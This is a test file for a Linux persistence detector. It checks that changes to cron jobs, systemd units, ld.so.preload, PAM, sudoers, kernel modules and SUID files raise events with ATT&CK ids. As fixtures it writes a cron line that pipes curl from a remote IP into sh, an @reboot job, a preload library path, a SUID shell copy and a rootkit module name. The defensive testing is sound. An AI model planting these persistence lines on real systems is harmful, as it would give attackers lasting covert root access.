import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  appendFileSync,
  chmodSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import def from './index.ts';
import { excerpt, groupMembers, parseAccounts, parseModules } from './parse.ts';
import { multiarchDirs, persistenceLocations } from './locations.ts';
import { FILE_RULES, fileMeaning, suidMeaning } from './events.ts';
import { readmeExample, testContext, type Recorded } from '../testing.ts';
import { EventSchema } from '@canh/protocol';
import type { Accumulator } from '../../inputs/types.ts';
import { runCheck } from '../../check.ts';
import { pino } from 'pino';

const data = (f: string) => readFileSync(join(import.meta.dirname, 'testdata', f), 'utf8');

/** Records events (checked against the wire schema) and points. */
function record() {
  const events: Recorded[] = [];
  const points: { name: string; fields: Record<string, unknown> }[] = [];
  const acc: Accumulator = {
    addPoint: (name, _tags, fields) => points.push({ name, fields }),
    addEvent: (e) => {
      const r = EventSchema.safeParse({ time: Date.now(), detector: 'persistence', ...e });
      if (!r.success) throw new Error(`invalid event ${JSON.stringify(e)}: ${r.error.message}`);
      events.push(e);
    },
  };
  return { acc, events, points };
}

describe('persistence pure logic', () => {
  it('parses /proc/modules', () => {
    const { modules, malformed } = parseModules(data('modules.txt'));
    expect(malformed).toBe(0);
    expect(modules.size).toBe(11);
    expect(modules.get('nf_tables')).toBe(344064);
    expect(parseModules('garbage\n$$ x y\n\n').malformed).toBe(2);
  });

  it('finds accounts, privileged group members and multiarch folders', () => {
    const passwd = 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbroken\n';
    expect(parseAccounts(passwd)).toEqual([
      { name: 'root', uid: 0, home: '/root' },
      { name: 'alice', uid: 1000, home: '/home/alice' },
    ]);
    expect(groupMembers('sudo:x:27:alice,bob\nusers:x:100:carol\n', ['sudo'])).toEqual({ members: new Set(['alice', 'bob']), gids: new Set([27]) });
    expect(multiarchDirs('/usr/lib', ['x86_64-linux-gnu', 'aarch64-linux-gnu', 'python3', 'systemd'])).toEqual([
      '/usr/lib/x86_64-linux-gnu',
      '/usr/lib/aarch64-linux-gnu',
    ]);
  });

  it('keeps an excerpt of text and none of binary content', () => {
    expect(excerpt(Buffer.from('* * * * * root curl x|sh\n\u001b[2J'))).toBe('* * * * * root curl x|sh\n?[2J');
    expect(excerpt(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1]))).toBeUndefined();
    expect(excerpt(Buffer.from('a'.repeat(2000)), 10)).toBe(`${'a'.repeat(10)}…`);
  });

  it('lists every location of every file category', () => {
    const locs = persistenceLocations(['/home/alice'], ['/root'], ['/usr/lib/x86_64-linux-gnu']);
    const paths = locs.map((l) => l.path);
    for (const p of [
      '/etc/cron.d',
      '/etc/cron.daily',
      '/etc/cron.hourly',
      '/etc/cron.weekly',
      '/etc/cron.monthly',
      '/var/spool/cron/crontabs',
      '/etc/crontab',
      '/etc/systemd/system',
      '/lib/systemd/system',
      '/home/alice/.config/systemd/user',
      '/etc/ld.so.preload',
      '/etc/rc.local',
      '/etc/profile.d',
      '/root/.bashrc',
      '/etc/sudoers',
      '/etc/sudoers.d',
      '/etc/pam.d',
      '/usr/lib/x86_64-linux-gnu/security',
    ])
      expect(paths).toContain(p);
    expect(paths).not.toContain('/home/alice/.bashrc');
  });

  it('gives each change its type, severity and technique', () => {
    const e = { origin: 'admin' as const, kind: 'file' as const, mode: 0o100644, uid: 0, gid: 0, size: 10, mtimeMs: 1, ctimeMs: 1, ino: 1 };
    expect(fileMeaning({ path: '/etc/cron.d/x', change: 'added', new: { ...e, category: 'cron' } })).toMatchObject({
      type: 'cron_job_added',
      severity: 'high',
      mitre: 'T1053.003',
    });
    expect(fileMeaning({ path: '/etc/ld.so.preload', change: 'changed', new: { ...e, category: 'preload' } })).toMatchObject({
      type: 'preload_set',
      severity: 'critical',
      mitre: 'T1574.006',
    });
    expect(fileMeaning({ path: '/etc/ld.so.preload', change: 'changed', new: { ...e, category: 'preload', size: 0 } })).toMatchObject({
      type: 'preload_cleared',
      severity: 'low',
    });
    expect(fileMeaning({ path: '/lib/systemd/system/x.service', change: 'added', new: { ...e, category: 'systemd', origin: 'vendor' } })).toMatchObject({
      type: 'systemd_unit_added',
      severity: 'medium',
    });
    expect(fileMeaning({ path: '/lib/systemd/system/x.service', change: 'changed', new: { ...e, category: 'systemd', origin: 'vendor' } })).toBeUndefined();
    expect(suidMeaning('/tmp/.x/sh', { mode: 0o104755, uid: 0, gid: 0, size: 1, mtimeMs: 1, ino: 1 }, 'added')).toMatchObject({
      type: 'suid_binary_added',
      severity: 'critical',
      mitre: 'T1548.001',
    });
    expect(suidMeaning('/usr/bin/x', { mode: 0o102755, uid: 0, gid: 0, size: 1, mtimeMs: 1, ino: 1 }, 'added')).toMatchObject({
      severity: 'high',
      what: 'SGID file',
    });
  });

  it('the README lists every event type with its severity and ATT&CK id', () => {
    const readme = readFileSync(join(import.meta.dirname, 'README.md'), 'utf8');
    const rows = new Map(
      [...readme.matchAll(/^\| `([a-z_]+)` \| ([^|]+) \| (T\d{4}(?:\.\d{3})?) \|/gm)].map((m) => [m[1]!, { severity: m[2]!, mitre: m[3]! }]),
    );
    const types = new Set(['kernel_module_loaded', 'suid_binary_added', 'suid_binary_changed', 'suid_binary_removed']);
    for (const r of Object.values(FILE_RULES)) for (const t of Object.values(r.type)) types.add(t);
    for (const t of types) {
      expect(rows.get(t), t).toBeDefined();
      expect(rows.get(t)!.severity).toMatch(/info|low|medium|high|critical/);
    }
    for (const r of Object.values(FILE_RULES)) for (const t of Object.values(r.type)) expect(rows.get(t)!.mitre, t).toBe(r.mitre);
  });

  it('README example parses with the schema', () => {
    expect(readmeExample(import.meta.dirname, def)).toMatchObject({ files_interval: 60_000, suid_interval: 3_600_000 });
  });
});

/** A host tree under a temporary root, with a clock that moves an hour per gather. */
function host() {
  const root = mkdtempSync(join(tmpdir(), 'canh-persist-'));
  const proc = join(root, 'proc');
  const put = (p: string, text: string, mode = 0o644) => {
    mkdirSync(dirname(join(root, p)), { recursive: true });
    writeFileSync(join(root, p), text, { mode });
    chmodSync(join(root, p), mode);
  };
  put('/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\n');
  put('/etc/group', 'root:x:0:\nsudo:x:27:alice\nalice:x:1000:\nbob:x:1001:\n');
  put('/etc/crontab', 'SHELL=/bin/sh\n');
  put('/etc/cron.d/e2scrub_all', '30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n');
  for (const d of ['cron.daily', 'cron.hourly', 'cron.weekly', 'cron.monthly']) put(`/etc/${d}/.placeholder`, '# DO NOT EDIT OR REMOVE\n');
  put('/var/spool/cron/crontabs/.keep', '');
  put('/etc/systemd/system/multi-user.target.wants/.keep', '');
  put('/usr/lib/systemd/system/ssh.service', '[Service]\nExecStart=/usr/sbin/sshd -D\n');
  put('/home/alice/.config/systemd/user/.keep', '');
  put('/etc/profile', 'PATH=/usr/bin\n');
  put('/etc/profile.d/bash_completion.sh', '# completion\n');
  put('/root/.bashrc', 'alias ll="ls -l"\n');
  put('/home/alice/.bashrc', 'alias ll="ls -l"\n');
  put('/home/bob/.bashrc', 'alias ll="ls -l"\n');
  put('/etc/sudoers', 'root ALL=(ALL:ALL) ALL\n', 0o440);
  put('/etc/sudoers.d/README', '# see sudoers(5)\n', 0o440);
  put('/etc/pam.d/sshd', '@include common-auth\n');
  put('/usr/lib/x86_64-linux-gnu/security/pam_unix.so', '\u007fELF\u0000pam_unix');
  put('/usr/bin/passwd', 'passwd', 0o4755);
  put('/tmp/.keep', '');
  mkdirSync(proc, { recursive: true });
  writeFileSync(join(proc, 'modules'), data('modules.txt'));
  let clock = Date.UTC(2026, 11, 7, 8);
  const make = (cfg: Record<string, unknown> = {}) =>
    def.create(def.config.parse({ root, ...cfg }), testContext(join(root, 'state'), { procRoot: proc, now: () => (clock += 3_600_000) }));
  return { root, proc, put, make };
}

describe('persistence on real files (a host tree under a temporary root)', () => {
  let h: ReturnType<typeof host>;
  beforeEach(() => {
    h = host();
  });
  afterEach(() => rmSync(h.root, { recursive: true, force: true }));

  it('the first run is a baseline that raises nothing, and reports its counts; a restart stays quiet', async () => {
    const r = record();
    await h.make().gather!(r.acc);
    expect(r.events).toEqual([]);
    expect(r.points).toEqual([
      {
        name: 'persistence',
        fields: { cron: 7, systemd: 3, preload: 0, rc_local: 0, shell_profile: 4, sudoers: 2, pam: 2, kernel_modules: 11, suid: 1 },
      },
    ]);
    expect(existsSync(join(h.root, 'state/baseline-persistence.json'))).toBe(true);
    await h.make().gather!(r.acc);
    expect(r.events).toEqual([]);
  });

  // Each location: created, modified, deleted — one event each with its type and severity.
  const cases: { path: string; types: [string, string, string]; severity: [string, string, string]; mitre: string; mode?: number }[] = [
    { path: '/etc/cron.d/backdoor', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003' },
    {
      path: '/etc/cron.daily/update',
      types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'],
      severity: ['high', 'high', 'low'],
      mitre: 'T1053.003',
      mode: 0o755,
    },
    { path: '/etc/cron.hourly/x', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003' },
    { path: '/etc/cron.weekly/x', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003' },
    { path: '/etc/cron.monthly/x', types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'], severity: ['high', 'high', 'low'], mitre: 'T1053.003' },
    {
      path: '/var/spool/cron/crontabs/www-data',
      types: ['cron_job_added', 'cron_job_changed', 'cron_job_removed'],
      severity: ['high', 'high', 'low'],
      mitre: 'T1053.003',
      mode: 0o600,
    },
    {
      path: '/etc/systemd/system/dbus-helper.service',
      types: ['systemd_unit_added', 'systemd_unit_changed', 'systemd_unit_removed'],
      severity: ['high', 'high', 'low'],
      mitre: 'T1543.002',
    },
    {
      path: '/etc/systemd/system/multi-user.target.wants/x.service',
      types: ['systemd_unit_added', 'systemd_unit_changed', 'systemd_unit_removed'],
      severity: ['high', 'high', 'low'],
      mitre: 'T1543.002',
    },
    {
      path: '/home/alice/.config/systemd/user/agent.service',
      types: ['systemd_unit_added', 'systemd_unit_changed', 'systemd_unit_removed'],
      severity: ['high', 'high', 'low'],
      mitre: 'T1543.002',
    },
    { path: '/etc/ld.so.preload', types: ['preload_set', 'preload_set', 'preload_cleared'], severity: ['critical', 'critical', 'low'], mitre: 'T1574.006' },
    {
      path: '/etc/rc.local',
      types: ['rc_local_changed', 'rc_local_changed', 'rc_local_changed'],
      severity: ['high', 'high', 'low'],
      mitre: 'T1037.004',
      mode: 0o755,
    },
    {
      path: '/etc/profile.d/zz.sh',
      types: ['shell_profile_changed', 'shell_profile_changed', 'shell_profile_changed'],
      severity: ['high', 'high', 'low'],
      mitre: 'T1546.004',
    },
    {
      path: '/root/.bash_profile',
      types: ['shell_profile_changed', 'shell_profile_changed', 'shell_profile_changed'],
      severity: ['high', 'high', 'low'],
      mitre: 'T1546.004',
    },
    {
      path: '/home/alice/.profile',
      types: ['shell_profile_changed', 'shell_profile_changed', 'shell_profile_changed'],
      severity: ['high', 'high', 'low'],
      mitre: 'T1546.004',
    },
    {
      path: '/etc/sudoers.d/90-x',
      types: ['sudoers_changed', 'sudoers_changed', 'sudoers_changed'],
      severity: ['high', 'high', 'medium'],
      mitre: 'T1548.003',
      mode: 0o440,
    },
    {
      path: '/etc/pam.d/common-session',
      types: ['pam_module_changed', 'pam_module_changed', 'pam_module_changed'],
      severity: ['high', 'high', 'medium'],
      mitre: 'T1556.003',
    },
    {
      path: '/usr/lib/x86_64-linux-gnu/security/pam_evil.so',
      types: ['pam_module_changed', 'pam_module_changed', 'pam_module_changed'],
      severity: ['high', 'high', 'medium'],
      mitre: 'T1556.003',
    },
  ];

  it('every location: created, modified, deleted', async () => {
    const det = h.make();
    const r = record();
    await det.gather!(r.acc);
    const step = async (what: string) => {
      r.events.length = 0;
      await det.gather!(r.acc);
      return r.events.map((e) => ({ what, type: e.type, severity: e.severity, mitre: e.mitre, path: e.evidence!.path }));
    };
    for (const c of cases) {
      h.put(c.path, '* * * * * root /tmp/.x/run\n', c.mode ?? 0o644);
      expect(await step(`create ${c.path}`)).toEqual([{ what: `create ${c.path}`, type: c.types[0], severity: c.severity[0], mitre: c.mitre, path: c.path }]);
      appendFileSync(join(h.root, c.path), '@reboot root /tmp/.x/run\n');
      expect(await step(`modify ${c.path}`)).toEqual([{ what: `modify ${c.path}`, type: c.types[1], severity: c.severity[1], mitre: c.mitre, path: c.path }]);
      unlinkSync(join(h.root, c.path));
      expect(await step(`delete ${c.path}`)).toEqual([{ what: `delete ${c.path}`, type: c.types[2], severity: c.severity[2], mitre: c.mitre, path: c.path }]);
    }
  });

  it('the evidence holds the new content (a text file) and modes; permission changes count', async () => {
    const det = h.make();
    const r = record();
    await det.gather!(r.acc);
    h.put('/etc/cron.d/backdoor', '* * * * * root curl -s http://198.51.100.7/x | sh\n');
    await det.gather!(r.acc);
    expect(r.events[0]).toMatchObject({
      message: 'cron job added: /etc/cron.d/backdoor',
      evidence: { change: 'added', category: 'cron', content: '* * * * * root curl -s http://198.51.100.7/x | sh\n', new_mode: '0644' },
    });
    chmodSync(join(h.root, 'etc/sudoers.d/README'), 0o666);
    r.events.length = 0;
    await det.gather!(r.acc);
    expect(r.events).toEqual([
      expect.objectContaining({ type: 'sudoers_changed', evidence: expect.objectContaining({ old_mode: '0440', new_mode: '0666', change: 'changed' }) }),
    ]);
  });

  it("package folders: an added unit is medium, its change or removal is not reported; an unprivileged user's rc file is not watched", async () => {
    const det = h.make();
    const r = record();
    await det.gather!(r.acc);
    h.put('/usr/lib/systemd/system/new.service', '[Service]\nExecStart=/usr/bin/new\n');
    await det.gather!(r.acc);
    expect(r.events.map((e) => `${e.type} ${e.severity}`)).toEqual(['systemd_unit_added medium']);
    r.events.length = 0;
    appendFileSync(join(h.root, 'usr/lib/systemd/system/ssh.service'), 'Restart=always\n');
    unlinkSync(join(h.root, 'usr/lib/systemd/system/new.service'));
    appendFileSync(join(h.root, 'home/bob/.bashrc'), 'curl x | sh\n');
    await det.gather!(r.acc);
    expect(r.events).toEqual([]);
  });

  it('a folder that cannot be read for a while is not reported as emptied', async () => {
    const det = h.make();
    const r = record();
    await det.gather!(r.acc);
    // Root reads any folder; a symlink loop is what makes readdir fail for it (ELOOP).
    rmSync(join(h.root, 'etc/profile.d'), { recursive: true });
    symlinkSync(join(h.root, 'etc/profile.d'), join(h.root, 'etc/profile.d'));
    await det.gather!(r.acc);
    expect(r.events).toEqual([]);
  });

  it('kernel modules: a new one is reported once, even when it unloads and loads again; allow_modules', async () => {
    const det = h.make({ allow_modules: ['usb_storage'] });
    const r = record();
    await det.gather!(r.acc);
    const modules = join(h.proc, 'modules');
    appendFileSync(modules, 'diamorphine 16384 0 - Live 0x0000000000000000 (OE)\nusb_storage 77824 0 - Live 0xffffffffc0b00000\n');
    await det.gather!(r.acc);
    expect(r.events).toEqual([
      expect.objectContaining({ type: 'kernel_module_loaded', severity: 'high', mitre: 'T1547.006', evidence: { module: 'diamorphine', size: 16384 } }),
    ]);
    writeFileSync(modules, data('modules.txt'));
    await det.gather!(r.acc);
    appendFileSync(modules, 'diamorphine 16384 0 - Live 0x0000000000000000 (OE)\n');
    await det.gather!(r.acc);
    expect(r.events).toHaveLength(1);
  });

  it('SUID/SGID files: added (critical outside system folders), changed, removed', async () => {
    const det = h.make();
    const r = record();
    await det.gather!(r.acc);
    copyFileSync('/bin/sh', join(h.root, 'tmp/.sh'));
    chmodSync(join(h.root, 'tmp/.sh'), 0o4755);
    h.put('/usr/local/bin/helper', 'x', 0o2755);
    await det.gather!(r.acc);
    expect(r.events.map((e) => [e.type, e.severity, e.mitre, e.evidence!.path, e.evidence!.setuid]).sort()).toEqual([
      ['suid_binary_added', 'critical', 'T1548.001', '/tmp/.sh', true],
      ['suid_binary_added', 'high', 'T1548.001', '/usr/local/bin/helper', false],
    ]);
    r.events.length = 0;
    appendFileSync(join(h.root, 'usr/bin/passwd'), 'trojan');
    chmodSync(join(h.root, 'tmp/.sh'), 0o755);
    await det.gather!(r.acc);
    expect(r.events.map((e) => [e.type, e.severity, e.evidence!.path]).sort()).toEqual([
      ['suid_binary_changed', 'medium', '/usr/bin/passwd'],
      ['suid_binary_removed', 'info', '/tmp/.sh'],
    ]);
  });

  it('in the agent (an interval set) the SUID scan runs beside the gathers, and a later gather reports it', async () => {
    const state = join(h.root, 'state-bg');
    const det = def.create(def.config.parse({ root: h.root, categories: ['suid'] }), testContext(state, { procRoot: h.proc, intervalMs: 10_000 }));
    const r = record();
    await det.gather!(r.acc);
    for (let i = 0; i < 200 && !r.points.some((p) => p.fields.suid !== undefined); i++) {
      await new Promise((ok) => setTimeout(ok, 20));
      await det.gather!(r.acc);
    }
    expect(r.points.at(-1)!.fields).toEqual({ suid: 1 });
    // The next scan waits for suid_interval (an hour): a new SUID file is not seen yet.
    h.put('/usr/local/bin/late', 'x', 0o4755);
    for (let i = 0; i < 5; i++) await det.gather!(r.acc);
    expect(r.events).toEqual([]);
    expect(r.points.at(-1)!.fields).toEqual({ suid: 1 });
    await det.stop!();
  });

  it('a category enabled later is recorded silently; the SUID scan waits for suid_interval', async () => {
    const r = record();
    await h.make({ categories: ['cron'] }).gather!(r.acc);
    h.put('/etc/sudoers.d/new', 'x ALL=(ALL) ALL\n', 0o440);
    await h.make({ categories: ['cron', 'sudoers'] }).gather!(r.acc);
    expect(r.events).toEqual([]);
    appendFileSync(join(h.root, 'etc/sudoers.d/new'), '# more\n');
    await h.make({ categories: ['cron', 'sudoers'] }).gather!(r.acc);
    expect(r.events.map((e) => e.type)).toEqual(['sudoers_changed']);
    // With a day between scans, a second gather an hour later does not walk again.
    const det = h.make({ categories: ['suid'], suid_interval: '24h' });
    r.events.length = 0;
    await det.gather!(r.acc);
    h.put('/usr/local/bin/late', 'x', 0o4755);
    await det.gather!(r.acc);
    expect(r.events).toEqual([]);
  });

  it('`canh-agent check` prints the baseline counts', async () => {
    const lines: string[] = [];
    const config = {
      agent: { state_dir: join(h.root, 'state'), hostname: 'web01' },
      inputs: [],
      detectors: [{ type: 'persistence', definition: def, options: def.config.parse({ root: h.root, categories: ['cron', 'sudoers', 'pam'] }), tags: {} }],
    };
    const errors = await runCheck(config as unknown as Parameters<typeof runCheck>[0], pino({ level: 'silent' }), (l) => lines.push(l));
    expect(errors).toBe(0);
    expect(lines).toEqual([expect.stringMatching(/^persistence,host=web01 cron=7i,sudoers=2i,pam=2i \d+$/)]);
  });
});

describe('persistence on the real /etc (files created and removed by this test)', () => {
  const tag = `canh-test-${process.pid}`;
  const paths = [`/etc/cron.d/${tag}`, `/etc/systemd/system/${tag}.service`, `/etc/profile.d/${tag}.sh`];
  let state: string;
  beforeAll(() => {
    state = mkdtempSync(join(tmpdir(), 'canh-persist-real-'));
  });
  afterAll(() => {
    for (const p of paths) rmSync(p, { force: true });
    rmSync(state, { recursive: true, force: true });
  });

  it('sees a cron job, a unit and a profile script appear, change and go', async () => {
    let clock = Date.now();
    // Inert content: a comment, a unit nobody enables, a comment.
    const det = def.create(def.config.parse({ categories: ['cron', 'systemd', 'shell_profile'] }), testContext(state, { now: () => (clock += 3_600_000) }));
    const r = record();
    await det.gather!(r.acc);
    expect(r.events).toEqual([]);
    const mine = () =>
      r.events
        .filter((e) => paths.includes(String(e.evidence!.path)))
        .map((e) => `${e.type} ${String(e.evidence!.path)}`)
        .sort();
    for (const p of paths) writeFileSync(p, '# canh test, safe to delete\n');
    await det.gather!(r.acc);
    expect(mine()).toEqual([`cron_job_added ${paths[0]}`, `shell_profile_changed ${paths[2]}`, `systemd_unit_added ${paths[1]}`]);
    r.events.length = 0;
    for (const p of paths) appendFileSync(p, '# changed\n');
    await det.gather!(r.acc);
    expect(mine()).toEqual([`cron_job_changed ${paths[0]}`, `shell_profile_changed ${paths[2]}`, `systemd_unit_changed ${paths[1]}`]);
    r.events.length = 0;
    for (const p of paths) unlinkSync(p);
    await det.gather!(r.acc);
    expect(mine()).toEqual([`cron_job_removed ${paths[0]}`, `shell_profile_changed ${paths[2]}`, `systemd_unit_removed ${paths[1]}`]);
  });
});

describe('persistence told by the kernel (inotify), between full comparisons', () => {
  let h: ReturnType<typeof host>;
  beforeEach(() => {
    h = host();
  });
  afterEach(() => rmSync(h.root, { recursive: true, force: true }));
  // The real clock and a full comparison only hourly: what is reported here was notified.
  const make = (cfg: Record<string, unknown> = {}) =>
    def.create(
      def.config.parse({ root: h.root, files_interval: '1h', categories: ['cron', 'systemd', 'preload'], ...cfg }),
      testContext(join(h.root, 'state'), { procRoot: h.proc }),
    );
  const notified = (d: ReturnType<typeof make>) => (d as unknown as { notifications: number }).notifications;
  const until = async (pred: () => boolean) => {
    for (let i = 0; i < 250 && !pred(); i++) await new Promise((r) => setTimeout(r, 20));
    return pred();
  };

  it('a cron job, a drop-in in a folder created meanwhile, and ld.so.preload are reported at the next gather', async () => {
    const d = make();
    const r = record();
    await d.gather!(r.acc);
    expect(r.events).toEqual([]);
    h.put('/etc/cron.d/backdoor', '* * * * * root curl -s http://198.51.100.7/x | sh\n');
    expect(await until(() => notified(d) >= 1)).toBe(true);
    await d.gather!(r.acc);
    expect(r.events.map((e) => `${e.type} ${String(e.evidence!.path)}`)).toEqual(['cron_job_added /etc/cron.d/backdoor']);
    // A new folder under a watched tree: its creation is told, and then the folder is watched too.
    mkdirSync(join(h.root, '/etc/systemd/system/ssh.service.d'));
    expect(await until(() => notified(d) >= 2)).toBe(true);
    await d.gather!(r.acc);
    h.put('/etc/systemd/system/ssh.service.d/override.conf', '[Service]\nExecStartPre=/tmp/.x\n');
    expect(await until(() => notified(d) >= 3)).toBe(true);
    // A file watched by name in a folder that is not walked (/etc).
    h.put('/etc/ld.so.preload', '/tmp/.x/libhide.so\n');
    await d.gather!(r.acc);
    expect(r.events.map((e) => `${e.type} ${String(e.evidence!.path)}`).sort()).toEqual([
      'cron_job_added /etc/cron.d/backdoor',
      'preload_set /etc/ld.so.preload',
      'systemd_unit_added /etc/systemd/system/ssh.service.d/override.conf',
    ]);
    await d.stop!();
  });

  it('with watch: false a change waits for files_interval', async () => {
    const d = make({ watch: false });
    const r = record();
    await d.gather!(r.acc);
    h.put('/etc/cron.d/backdoor', '* * * * * root id\n');
    await d.gather!(r.acc);
    expect(r.events).toEqual([]);
    expect(notified(d)).toBe(0);
    await d.stop!();
  });
});
